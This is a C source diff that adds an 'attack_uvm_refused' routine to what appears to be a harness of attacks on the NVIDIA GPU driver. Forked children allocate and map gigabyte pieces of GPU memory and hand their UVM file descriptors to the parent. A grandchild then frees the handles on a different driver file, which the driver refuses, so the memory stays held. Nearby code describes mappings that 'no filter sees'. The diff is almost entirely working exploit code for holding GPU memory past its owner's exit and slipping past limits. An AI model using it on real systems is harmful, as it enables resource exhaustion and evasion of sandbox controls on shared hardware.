@@ -92,6 +92,69 @@ void attack_uvm_heir (int argc, char **argv)
     hold ();
 }
 
+/* Its parent has ended: what that had is named in FREEs on another open file, which the driver refuses. */
+static void free_elsewhere (const struct bed *bed, int parent, const uint32_t *handles, unsigned count)
+{
+    int other = open ("/dev/nvidiactl", O_RDWR | O_CLOEXEC);
+    char byte;
+
+    (void) !read (parent, &byte, 1);
+    usleep (100000);
+    for (unsigned k = 0; k < count; k++) {
+        struct release call = { bed->client, bed->device, handles[k], 0xffff };
+
+        ioctl (other, REQUEST (0x29, sizeof (call)), &call);
+    }
+    usleep (20000);
+}
+
+/* uvm-refused CHILDREN PIECES: each child maps what it allocates, leaves its UVM file to its parent and ends; a child of its own, with the client's file,
+ * frees the pieces on another file, in vain, and ends. */
+void attack_uvm_refused (int argc, char **argv)
+{
+    unsigned children = argc > 0 ? (unsigned) atoi (argv[0]) : 4, pieces = argc > 1 ? (unsigned) atoi (argv[1]) : 6;
+    uint8_t kept = 0, all = 0;
+    int pair[2], over[2], parent[2];
+    char byte;
+
+    if (socketpair (AF_UNIX, SOCK_STREAM, 0, pair) != 0)
+        exit (4);
+    for (unsigned i = 0; i < children; i++) {
+        pid_t child = pipe (over) != 0 ? -1 : fork ();
+
+        if (child == 0) {
+            struct bed bed = bed_open ();
+            struct uvm uvm = uvm_begin (&bed, false);
+            uint32_t handles[16], count = 0;
+
+            kept = 0;
+            while (count < pieces && count < 16 && bed_memory (&bed, &handles[count], GIB) == 0) {
+                kept += uvm_map (&uvm, &bed, count, handles[count], GIB) == 0;
+                count++;
+            }
+            if (send_descriptor (pair[0], uvm.file) != 0 || write (pair[0], &kept, 1) != 1 || pipe (parent) != 0)
+                _exit (1);
+            if (fork () == 0) {
+                close (parent[1]);
+                close (uvm.file);
+                free_elsewhere (&bed, parent[0], handles, count);
+            }
+            _exit (0);
+        }
+        close (over[1]);
+        if (receive_descriptor (pair[1]) < 0 || read (pair[1], &kept, 1) != 1)
+            exit (5);
+        all += kept;
+        (void) !read (over[0], &byte,
+                      1); /* both have ended; the first is waited for after it, for the driver reports of it until then */
+        waitpid (child, NULL, 0);
+        close (over[0]);
+        usleep (700000);
+    }
+    say ("kept", all);
+    hold ();
+}
+
 /* unseen: 1.5 GiB of managed memory by the first mmap of the 32-bit entry, whose arguments are in memory: no filter sees that it
  * is a shared mapping. How many pieces of 1 GiB can be had three seconds later? */
 void attack_unseen (int argc, char **argv)
